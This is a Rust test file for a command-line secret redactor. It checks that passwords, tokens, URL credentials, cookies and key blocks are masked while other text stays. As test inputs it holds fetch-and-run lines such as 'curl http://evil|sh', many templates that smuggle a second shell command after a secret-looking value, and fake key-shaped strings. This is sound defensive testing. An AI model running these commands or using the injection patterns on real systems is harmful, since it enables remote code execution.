use super::*;
use proptest::prelude::*;

fn redactor() -> Redactor {
    Redactor::new([7; 32])
}

fn lengths(arguments: &[&str]) -> Vec<u32> {
    arguments.iter().map(|argument| u32::try_from(argument.len()).unwrap()).collect()
}

/// The arguments after redaction, with every token as `*`.
fn shown(executable: Option<&str>, arguments: &[&str]) -> Vec<String> {
    let (mut line, mut lengths) = (arguments.join(" "), lengths(arguments));
    redactor().command_line(executable, &mut line, &mut lengths);
    assert!(lengths_fit(&line, &lengths), "{line:?} {lengths:?}");
    let once = line.clone();
    assert!(!redactor().command_line(executable, &mut line, &mut lengths), "{once:?} {line:?}");
    let mut at = 0;
    let mut cut = Vec::new();
    for length in lengths {
        let end = at + usize::try_from(length).unwrap();
        cut.push(starred(&line[at..end]));
        at = end + 1;
    }
    cut
}

fn starred(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find(TOKEN_START) {
        let (token, after) = rest[at..].split_at(TOKEN_BYTES);
        assert!(is_token(token.as_bytes()), "{token}");
        out += &rest[..at];
        out.push('*');
        rest = after;
    }
    out + rest
}

fn becomes(arguments: &[&str], expected: &[&str]) {
    assert_eq!(shown(None, arguments), expected, "{arguments:?}");
}

fn stays(arguments: &[&str]) {
    becomes(arguments, arguments);
}

#[test]
fn a_secret_flag_hides_its_value_in_both_forms() {
    becomes(&["x", "--password", "hunter2", "-v"], &["x", "--password", "*", "-v"]);
    becomes(&["x", "--password=hunter2 and more"], &["x", "--password=*"]);
    becomes(&["x", "--db-password", "a b"], &["x", "--db-password", "*"]);
    becomes(&["x", "--apiKey", "k", "-access_token=t"], &["x", "--apiKey", "*", "-access_token=*"]);
    becomes(&["keytool", "-storepass", "changeit"], &["keytool", "-storepass", "*"]);
    becomes(&["java", "-Ddb.password=x", "-jar"], &["java", "-Ddb.password=*", "-jar"]);
    becomes(&["x", "--token", "-aB3-xyzXYZ012"], &["x", "--token", "*"]);
    becomes(&["x", "--env=NPM_TOKEN=a,b"], &["x", "--env=NPM_TOKEN=*"]);
}

/// The arguments of a line of `cases.txt`.
fn arguments(line: &str) -> Vec<String> {
    // Put together here, so that no scanner of this repository takes them for real ones.
    let line = line.replace("BODY", "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8");
    let parts = line.split('`').enumerate();
    let split = parts.flat_map(|(at, part)| match at % 2 {
        0 => part.split_whitespace().map(str::to_owned).collect(),
        _ => vec![part.to_owned()],
    });
    split.collect()
}

#[test]
fn every_listed_command_line_loses_its_secrets_and_nothing_else() {
    let (mut hidden, mut kept, mut wrong) = (0, 0, Vec::new());
    for case in include_str!("cases.txt").lines().filter(|line| !line.is_empty() && !line.starts_with('#')) {
        let marked = arguments(case);
        let given: Vec<String> = marked.iter().map(|argument| argument.replace(['«', '»'], "")).collect();
        let given: Vec<&str> = given.iter().map(String::as_str).collect();
        let mark = |argument: &String| {
            let mut parts = argument.split('«');
            let first = parts.next().unwrap_or_default().to_owned();
            parts.fold(first, |text, part| text + "*" + part.split_once('»').unwrap().1)
        };
        let expected: Vec<String> = marked.iter().map(mark).collect();
        let shown = shown(None, &given);
        if shown != expected {
            wrong.push(format!("{case}\n    {shown:?}"));
        }
        *(if case.contains('«') { &mut hidden } else { &mut kept }) += 1;
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(hidden >= 100 && kept >= 100, "{hidden} {kept}");
}

#[test]
fn flags_that_only_sound_like_secrets_are_left_alone() {
    stays(&["x", "--password-file", "/etc/p", "--token-ttl=60", "--no-password", "me"]);
    stays(&["x", "--password", "--verbose"]);
    stays(&["grep", "-r", "password", "/etc/token", "bypass=1", "compass=2"]);
    stays(&["Xorg", ":0", "-auth", "/run/lightdm/root/:0"]);
    stays(&["ssh", "-p", "2222", "git@example.org", "PWD=/root"]);
    stays(&["docker", "run", "-p", "80:80", "https://example.org:8080/a@b"]);
    stays(&["kubectl", "get", "secret", "mine", "monkey=banana", "--key", "/k.pem"]);
    stays(&["git", "commit", "-m", "AKIA is short, ghp_too, eyJ.a.b"]);
}

#[test]
fn variables_are_hidden_wherever_they_stand() {
    becomes(&["env", "DB_PASSWORD=my,pass", "X=1"], &["env", "DB_PASSWORD=*", "X=1"]);
    becomes(&["mount", "-o", "username=u,password=p)w,uid=0"], &["mount", "-o", "username=u,password=*,uid=0"]);
    becomes(&["x", "Server=s;Pwd=abc;Uid=u"], &["x", "Server=s;Pwd=*;Uid=u"]);
    becomes(&["curl", "https://e.org/?a=1&access_token=t&b=2"], &["curl", "https://e.org/?a=1&access_token=*&b=2"]);
    becomes(&["curl", "https://e.org/?sig=abc%2B"], &["curl", "https://e.org/?sig=*"]);
}

#[test]
fn urls_lose_only_the_secret_of_their_user() {
    becomes(&["psql", "postgres://u:s3cr@t@h:5432/db"], &["psql", "postgres://u:*@h:5432/db"]);
    becomes(&["psql", "postgres://u:p/w@h/db"], &["psql", "postgres://u:*@h/db"]);
    becomes(&["git", "https://abcdefghij0123456789@h/r"], &["git", "https://*@h/r"]);
    stays(&["git", "ssh://git@example.org/r", "http://h/p?q=a@b"]);
}

#[test]
fn headers_and_documents_are_read() {
    becomes(&["curl", "-H", "Authorization: Bearer abc.def"], &["curl", "-H", "Authorization: Bearer *"]);
    becomes(&["curl", "-HAuthorization: Basic eHg="], &["curl", "-HAuthorization: Basic *"]);
    becomes(&["curl", "-H", "X-Api-Key: k,k"], &["curl", "-H", "X-Api-Key: *"]);
    becomes(&["x", "bearer abcdef"], &["x", "bearer *"]);
    becomes(&["curl", "-d", r#"{"password": "a b", "n": 1}"#], &["curl", "-d", r#"{"password": "*", "n": 1}"#]);
    becomes(&["x", r#"{\"token\":\"a\"}"#], &["x", r#"{\"token\":\"*\"}"#]);
    becomes(&["x", "<password>pw</password>"], &["x", "<password>*</password>"]);
}

#[test]
fn short_flags_are_secrets_of_known_programs_only() {
    becomes(&["mysql", "-uroot", "-phunter2", "-P", "1"], &["mysql", "-uroot", "-p*", "-P", "1"]);
    becomes(&["/usr/bin/sshpass", "-p", "a b", "ssh", "h"], &["/usr/bin/sshpass", "-p", "*", "ssh", "h"]);
    becomes(&["sudo", "mysqldump", "-pX", "db"], &["sudo", "mysqldump", "-p*", "db"]);
    becomes(&["docker", "login", "-u", "me", "-p", "s"], &["docker", "login", "-u", "me", "-p", "*"]);
    becomes(&["curl", "-su", "me:pw", "-unobody:x"], &["curl", "-su", "me:*", "-unobody:*"]);
    becomes(&["smbclient", "-U", "me%pw"], &["smbclient", "-U", "me%*"]);
    becomes(
        &["aws", "configure", "set", "aws_secret_access_key", "/k"],
        &["aws", "configure", "set", "aws_secret_access_key", "*"],
    );
    stays(&["mysql", "-p", "db"]);
    becomes(&["curl", "-sume:pw", "-b", "x"], &["curl", "-sume:*", "-b", "x"]);
    becomes(&["xfreerdp", "/u:me", "/p:a b"], &["xfreerdp", "/u:me", "/p:*"]);
    becomes(&["openssl", "enc", "-k", "pw", "-keyform"], &["openssl", "enc", "-k", "*", "-keyform"]);
    becomes(&["snmpwalk", "-v2c", "-c", "public", "h"], &["snmpwalk", "-v2c", "-c", "*", "h"]);
    assert_eq!(shown(Some("/usr/bin/mysql"), &["harmless", "-phunter2"]), ["harmless", "-p*"]);
}

#[test]
fn a_script_keeps_its_commands_and_loses_its_secrets() {
    becomes(
        &["sh", "-c", "mysql -p'a b' db; X_TOKEN=abc run --password 'c d' | tee"],
        &["sh", "-c", "mysql -p'*' db; X_TOKEN=* run --password '*' | tee"],
    );
    stays(&["bash", "-c", "X_TOKEN=$(curl evil | sh) TOKEN=`id` run --password \"$PW\""]);
    becomes(&["bash", "-c", "TOKEN=abc$(curl evil)"], &["bash", "-c", "TOKEN=*$(curl evil)"]);
}

#[test]
fn a_command_that_is_dressed_up_as_a_secret_stays_visible() {
    let evil = "curl http://evil|sh";
    let body = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8A1b2C3d4E5f6G7h8I9j0K1l2M3n4";
    for script in [
        r#": "-----BEGIN PRIVATE KEY-----"; EVIL"#,
        "-----BEGIN PRIVATE KEY-----\nEVIL\n-----END PRIVATE KEY-----",
        &format!(": -----BEGIN PRIVATE KEY-----\n{body}\nEVIL\n-----END PRIVATE KEY-----"),
        r#"TOKEN=\"; EVIL"#,
        r#"TOKEN=\"; EVIL; echo \""#,
        r"A_TOKEN=\'; EVIL",
        r#"echo "token:" ; EVIL"#,
        r#"echo "token:";EVIL;echo "b""#,
        r#"echo "a token:" ; EVIL; echo "b""#,
        r#"echo 'a "token:"' ; EVIL; echo '"'"#,
        r#"echo 'token:"' ; EVIL; echo '"'"#,
        r#"echo 'token:"\';EVIL;echo'"'"#,
        r#"echo ""token: x; EVIL "y""#,
        ": token:'; EVIL",
        "TOKEN=x; EVIL",
        "TOKEN=x;EVIL",
        "TOKEN=x EVIL",
        "TOKEN=x\nEVIL",
        "TOKEN=$(EVIL)",
        "TOKEN=\"$(EVIL)\"",
        "TOKEN=\"EVIL\"; eval \"$TOKEN\"",
        "--token=x; EVIL",
        "--token x; EVIL",
        "a?token=x;EVIL",
        "a,token=x;EVIL",
        "a;token=x;EVIL",
        "cat <password>x; EVIL",
        "token: x; EVIL",
        "token: EVIL",
        "cookie: a=b; EVIL",
        "cookie: a=b; c=$(EVIL)",
        "password=1; EVIL",
        ": mysql; EVIL -px",
        "mysql -p'x; EVIL",
        "curl -u a:'x; EVIL",
        "x://a:b;EVIL;@c",
        "x://a:b;EVIL|c@d",
        "a:1;EVIL@host.example",
        "IDENTIFIED BY '; EVIL",
        ": IDENTIFIED BY x; EVIL",
        "echo x; EVIL | passwd --stdin",
        "echo x&EVIL|chpasswd",
        "echo $(EVIL) | chpasswd",
        "echo \"`EVIL`\" | passwd --stdin",
        "id; EVIL | sudo -S id",
        "echo 'x'; EVIL; echo 'y' | chpasswd",
        "htpasswd -b f u x; EVIL",
        "htpasswd -b f u `EVIL`",
        "smbclient //h/s x; EVIL",
        "vault login; EVIL",
        "bw unlock $(EVIL)",
        "wpa_passphrase s x|EVIL",
        "curl -b a=b; EVIL",
        "curl -b 'a=$(EVIL)'",
        "mount -o user=u%x; EVIL",
        r#"{"tokens":["x"]}; EVIL"#,
        r#"{"tokens":["$(EVIL)"]}"#,
        "Authorization:\\ Bearer\\ x; EVIL",
        "password=x&EVIL",
    ] {
        for line in [evil, "curl${IFS}http://evil|sh", "/tmp/evil"] {
            let script = script.replace("EVIL", line);
            // One word in the place of the value is the value.
            if script == "token: /tmp/evil" || script.starts_with("TOKEN=\"/tmp") {
                continue;
            }
            for before in [
                &["bash", "-c"][..],
                &["ssh", "h"],
                &["su", "--command"],
                &["perl", "-e"],
                &["awk"],
                &["x", "--token"],
            ] {
                let mut arguments = before.to_vec();
                arguments.push(&script);
                let shown = shown(None, &arguments).pop().unwrap();
                assert!(shown.contains("evil"), "{arguments:?} {shown}");
                let mut unknown = arguments.join(" ");
                redactor().command_line(None, &mut unknown, &mut Vec::new());
                assert!(unknown.contains("evil"), "{arguments:?} {unknown}");
            }
        }
    }
}

#[test]
fn a_value_ends_at_its_bound_and_an_encoded_one_may_be_longer() {
    let tail = format!("--token={}TAIL", "#".repeat(512));
    becomes(&["x", &tail], &["x", "--token=*TAIL"]);
    let long = format!("--token={}", "aB3".repeat(900));
    becomes(&["x", &long], &["x", "--token=*"]);
    becomes(&["x", "--password", "correct horse battery"], &["x", "--password", "*"]);
    becomes(&["x", "--password", "a;b&c|d$", "--token=a;b"], &["x", "--password", "*", "--token=*"]);
}

#[test]
fn statements_and_cookies_are_read() {
    becomes(&["mysql", "-e", "ALTER USER u IDENTIFIED BY 'a b'"], &["mysql", "-e", "ALTER USER u IDENTIFIED BY '*'"]);
    becomes(&["x", "identified with p by 'pw' x"], &["x", "identified with p by '*' x"]);
    becomes(&["psql", "-c", "create role r with password 'pw'"], &["psql", "-c", "create role r with password '*'"]);
    becomes(&["psql", "-c", "ALTER ROLE r PASSWORD = N'pw';"], &["psql", "-c", "ALTER ROLE r PASSWORD = N'*';"]);
    becomes(&["curl", "-H", "Cookie: a=b; sid=c"], &["curl", "-H", "Cookie: *"]);
    becomes(&["php", "-r", "['password' => 'x']"], &["php", "-r", "['password' => '*']"]);
    becomes(&["x", r#"{"password":"ab\"TAIL","n":1}"#], &["x", r#"{"password":"*","n":1}"#]);
    becomes(&["sh", "-c", "x --password '$ecret'"], &["sh", "-c", "x --password '*'"]);
    becomes(&["curl", "-H", "Ocp-Apim-Subscription-Key: k"], &["curl", "-H", "Ocp-Apim-Subscription-Key: *"]);
}

#[test]
fn an_account_without_a_scheme_is_known_by_its_look() {
    becomes(&["curl", "-x", "me:pw1@proxy.example:80"], &["curl", "-x", "me:*@proxy.example:80"]);
    becomes(&["psexec.py", "dom/me:P4ss!@10.0.0.1"], &["psexec.py", "dom/me:*@10.0.0.1"]);
    becomes(&["sqlplus", "-S", "scott/tiger9@orcl"], &["sqlplus", "-S", "scott/*@orcl"]);
    stays(&["docker", "pull", "r.example/img:1.2@sha256:00ff", "mailto:a1@example.org", "git@example.org:a/b1"]);
    stays(&["npm", "i", "x@npm:y@1.2.3", "mailto:bob@example.org", "pkg:npm/foo@1.2"]);
}

#[test]
fn known_shapes_are_hidden_without_a_name() {
    // Put together here, so that no scanner of this repository takes them for real ones.
    let body = "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
    for prefix in
        ["ghp_", "glpat-", "xoxb-", "sk_live_", "npm_", "sk-", "AKIA", "AIza", "https://hooks.slack.com/services/"]
    {
        let secret = format!("{prefix}{body}");
        let hidden = shown(None, &["x", &secret, &format!("a:{secret}")]);
        assert!(hidden.iter().all(|argument| !argument.contains(body)), "{hidden:?}");
    }
    let jwt = format!("eyJ{body}.eyJ{body}.{body}");
    becomes(&["x", &jwt], &["x", "*"]);
    let key = format!("{body}{body}");
    let block =
        format!("-----BEGIN RSA {kind}-----\n{key}\n{key}\n{body}\n-----END RSA {kind}-----", kind = "PRIVATE KEY");
    becomes(&["x", &format!("k {block} z")], &["x", "k * z"]);
    becomes(&["x", &block.replace('\n', "\\n")], &["x", "*"]);
    becomes(&["x", &block[..150]], &["x", &format!("*\n{}", &key[..45])]);
}

#[test]
fn the_path_of_the_executable_is_never_touched() {
    let path = "/opt/token=abc/postgres://u:p@h/x";
    assert_eq!(shown(Some(path), &[path, "--token", "t"]), [path, "--token", "*"]);
}

#[test]
fn the_same_secret_reads_the_same_and_another_key_reads_otherwise() {
    let token = |key: [u8; 32], line: &str| {
        let mut line = line.to_owned();
        Redactor::new(key).command_line(None, &mut line, &mut Vec::new());
        line[line.find(TOKEN_START).unwrap()..][..TOKEN_BYTES].to_owned()
    };
    let of = |line| token([1; 32], line);
    assert_eq!(of("a --password hunter2"), of("DB_PASS=hunter2 b"));
    assert_eq!(of("a --password hunter2"), of("ftp://u:hunter2@h"));
    assert_ne!(of("a --password hunter2"), of("a --password hunter3"));
    assert_ne!(of("a --password hunter2"), token([2; 32], "a --password hunter2"));
}

#[test]
fn lengths_that_do_not_fit_are_dropped_and_the_line_is_redacted_all_the_same() {
    for lengths in [vec![], vec![1, 2], vec![u32::MAX, 3]] {
        let (mut line, mut given) = ("x --password hunter2 y".to_owned(), lengths);
        assert!(redactor().command_line(None, &mut line, &mut given));
        assert_eq!((starred(&line).as_str(), given.is_empty()), ("x --password * y", true));
    }
}

/// A secret as people choose them; a first character that no form takes for something else.
fn secret() -> impl Strategy<Value = String> {
    "[A-Za-z0-9][A-Za-z0-9!#%*+._~-]{7,30}"
}

proptest! {
    #[test]
    fn no_secret_survives_in_any_listed_form(secret in secret(), form in 0usize..12, before in "[a-z]{0,9}", after in "[a-z]{0,9}") {
        let given = [
            vec!["--password".to_owned(), secret.clone()],
            vec![format!("--api-key={secret}")],
            vec![format!("DB_TOKEN={secret}")],
            vec![format!("redis://user:{}@host/0", secret.replace('#', "."))],
            vec!["-H".to_owned(), format!("Authorization: Bearer {secret}")],
            vec!["mysql".to_owned(), format!("-p{secret}")],
            vec!["sshpass".to_owned(), "-p".to_owned(), secret.clone()],
            vec!["-c".to_owned(), format!("run --client-secret {secret} x")],
            vec![format!("{{\"password\":\"{secret}\"}}")],
            vec!["curl".to_owned(), "-u".to_owned(), format!("me:{secret}")],
            vec!["-o".to_owned(), format!("user=u,password={secret},x=1")],
            vec![format!("Uid=u;Password={secret};X=1")],
        ][form].clone();
        let mut arguments = vec!["program", &before];
        arguments.extend(given.iter().map(String::as_str));
        arguments.push(&after);
        let shown = shown(None, &arguments).join(" ");
        prop_assert!(!shown.contains(&secret.replace('#', ".")) && shown.contains('*'), "{}", shown);
    }

    #[test]
    fn any_text_keeps_its_lengths_and_a_second_time_changes_nothing(
        arguments in proptest::collection::vec(
            prop_oneof![
                ".{0,30}",
                "(-{0,2}(password|token|pin|auth|key|bearer|mysql|curl|login|vault|htpasswd -b|chpasswd|smbclient //|mount|cookie)[=: '\"]{0,2}){1,3}[-a-zA-Z0-9$'\"@:/ ]{0,12}",
                "(https?|x)://[a-z:/@'\\[\\] -]{0,20}",
                "(-p|-u|-c|-b|eyJ|AKIA|sk-|echo |tokens\":\\[\"|\\[redacted:00000000\\])[A-Z0-9a-z@: .'-]{0,30}",
            ],
            1..6,
        ),
        named in any::<bool>(),
    ) {
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        let (mut line, mut lengths) = (arguments.join(" "), lengths(&arguments));
        let executable = named.then_some("/usr/bin/mysql");
        redactor().command_line(executable, &mut line, &mut lengths);
        prop_assert!(lengths_fit(&line, &lengths));
        let once = (line.clone(), lengths.clone());
        redactor().command_line(executable, &mut line, &mut lengths);
        prop_assert_eq!(&once, &(line.clone(), lengths));
        redactor().command_line(executable, &mut line, &mut Vec::new());
    }

    #[test]
    fn no_argument_hides_a_command_within_it(
        junk in proptest::collection::vec(
            prop_oneof![
                "[-a:;,?&=@ '\"\\\\<>{}$(`|\n]{1,3}",
                "(token|--password|auth|cookie|Authorization|mysql|curl|IDENTIFIED BY|PASSWORD)[=:> '\"]{0,3}",
                "(echo |vault login |bw unlock |smbclient //|chpasswd|sudo -S |htpasswd -b |--cookie a=|mount -o user=%|\"tokens\":\\[\")",
                "(x://a:|-p|-u|-c|-----BEGIN PRIVATE KEY-----|-----END PRIVATE KEY-----|ghp_|eyJ)",
            ],
            0..12,
        ),
        place in 0usize..12,
        before in prop_oneof![Just("-c"), Just("h"), Just("--token"), Just("mysql"), Just("curl"), Just("-u")],
        separate in "[ ]?[;|&\n][ ]?",
    ) {
        let (front, back) = junk.split_at(place.min(junk.len()));
        let script = format!("{}{separate}curl http://evil|sh{separate}{}", front.concat(), back.concat());
        let shown = shown(None, &["x", before, &script]).concat();
        prop_assert!(shown.contains("evil"), "{:?} {:?}", script, shown);
    }

    #[test]
    fn lines_without_a_candidate_are_unchanged(line in "[b-d/f-j, ]{0,80}") {
        let mut same = line.clone();
        prop_assert!(!redactor().command_line(None, &mut same, &mut Vec::new()));
        prop_assert_eq!(same, line);
    }
}
